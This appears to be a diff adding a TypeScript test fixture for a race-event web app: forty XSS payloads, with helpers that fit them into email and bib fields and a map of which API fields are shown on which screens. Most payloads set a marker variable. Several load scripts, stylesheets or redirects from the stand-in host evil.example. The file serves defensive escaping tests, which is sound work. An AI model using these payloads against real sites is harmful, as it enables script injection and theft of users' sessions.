@@ -1,0 +1,98 @@
+/**
+ * Forty ways to get a script run, each short enough for the shortest field that is shown whole (a group: 60 characters) and
+ * on one line. Every one of them sets `__xss`, or makes the browser load something from elsewhere.
+ */
+export const PAYLOADS: readonly string[] = [
+  '<script>__xss=1</script>',
+  '<ScRiPt>__xss=2</sCrIpT>',
+  '</script><script>__xss=3</script>',
+  '</title><script>__xss=4</script>',
+  '</textarea><script>__xss=5</script>',
+  '<!--><script>__xss=6</script>-->',
+  ']]><script>__xss=7</script>',
+  '<scr<script>ipt>__xss=8</scr</script>ipt>',
+  '<script src=//evil.example/9.js></script>',
+  '<script src=/api/openapi.json#10></script>',
+  '<img src=x onerror=__xss=11>',
+  '<img src=x:12 onerror="__xss=12">',
+  '<img/src=x/onerror=__xss=13>',
+  '<svg onload=__xss=14>',
+  '<svg><script>__xss=15</script></svg>',
+  '<svg><animate onbegin=__xss=16 attributeName=x dur=1s>',
+  '<math><mtext><img src=x onerror=__xss=17></mtext></math>',
+  '<details open ontoggle=__xss=18>',
+  '<input autofocus onfocus=__xss=19>',
+  '<video><source onerror=__xss=20></video>',
+  '<audio src=x onerror=__xss=21>',
+  '<body onload=__xss=22>',
+  '<marquee onstart=__xss=23>',
+  '<iframe srcdoc="<script>top.__xss=24</script>"></iframe>',
+  '<iframe src=javascript:top.__xss=25></iframe>',
+  '<object data=javascript:__xss=26></object>',
+  '<embed src=//evil.example/27.swf>',
+  '<a href=javascript:__xss=28>28</a>',
+  '<form action=javascript:__xss=29><button>29</button></form>',
+  '<base href=//evil.example/30/>',
+  '<meta http-equiv=refresh content=0;url=//evil.example/31>',
+  '<link rel=stylesheet href=//evil.example/32.css>',
+  '<style>@import"//evil.example/33.css";</style>',
+  '" autofocus onfocus=__xss=34 x="',
+  "' onmouseover=__xss=35 style='position:fixed;inset:0' x='",
+  'javascript:__xss=36',
+  'data:text/html,<script>top.__xss=37</script>',
+  '{{constructor.constructor("__xss=38")()}}${__xss=38}',
+  '&lt;img src=x onerror=__xss=39&gt; %3Cscript%3E39',
+  String.raw`\u003cscript\u003e__xss=40\u003c/script\u003e\x3c`,
+];
+
+/** As much of it as an address may hold, in front of the @. */
+export const payloadAddress = (number: number): string => `'-__xss-'+${number}@example.org`;
+
+/** A bib has room for sixteen characters. */
+export const bibOf = (payload: string): string => payload.slice(0, 16);
+
+/** The same list from another place on, so that two fields of one row do not hold the same. */
+export const shifted = (index: number, by: number): string => PAYLOADS[(index + by) % PAYLOADS.length]!;
+
+/**
+ * Every text field of the protocol: on which screens the payloads in it are looked for, or why there is nothing to look for.
+ * `payloads-fields.ts` lists them from the schemas; one that is not here fails.
+ */
+export const FIELDS: Readonly<Record<string, string>> = {
+  '/api/account/sign-up username': 'shown: homepage, account, people, history',
+  '/api/account/sign-up email': 'shown: homepage, account, people; the schema leaves little room',
+  '/api/account/sign-up password': 'never sent back',
+  '/api/account/login email': 'never sent back',
+  '/api/account/login password': 'never sent back',
+  '/api/account/password-reset email': 'never sent back',
+  '/api/account/password-reset/confirm token': 'never sent back',
+  '/api/account/password-reset/confirm password': 'never sent back',
+  '/api/account/verification/confirm token': 'never sent back',
+  '/api/account/password currentPassword': 'never sent back',
+  '/api/account/password newPassword': 'never sent back',
+  '/api/account/delete password': 'never sent back',
+  '/api/commands userId': 'only compared',
+  '/api/sandbox/confirm clientSecret': 'only compared',
+  '/api/sandbox/confirm card number': 'never sent back',
+  '/api/sandbox/confirm card expiry': 'never sent back',
+  '/api/sandbox/confirm card cvc': 'never sent back',
+  '/api/sandbox/authenticate clientSecret': 'only compared',
+  'event.create name': 'shown: lists of events, picker, shared group, credit history, undo',
+  'event.create timeZone': 'only a zone that exists is taken',
+  'event.rename name': 'shown: board, viewer’s board, shared group, history, title',
+  'entries.add racers[] name': 'shown: every part of both boards, details, history, removed racers',
+  'entries.add racers[] groups[]': 'shown: details',
+  'entries.add racers[] bib': 'shown: both boards',
+  'admin.invite email': 'shown: people, history; the schema leaves little room',
+  'admin.remove userId': 'only compared',
+  'admin.uninvite email': 'only compared',
+  'owner.change userId': 'only compared',
+  'racer.create name': 'shown: library, picker, credit history',
+  'racer.create groups[]': 'shown: library, its filter',
+  'racer.rename name': 'shown: library, picker, credit history',
+  'racer.tag group': 'shown: library, its filter',
+  'racer.untag group': 'only compared',
+  'live follow-event key': 'only compared',
+  'live follow-group groupId': 'shown nowhere: an unknown group has no name',
+  'live unfollow topic': 'only compared',
+};
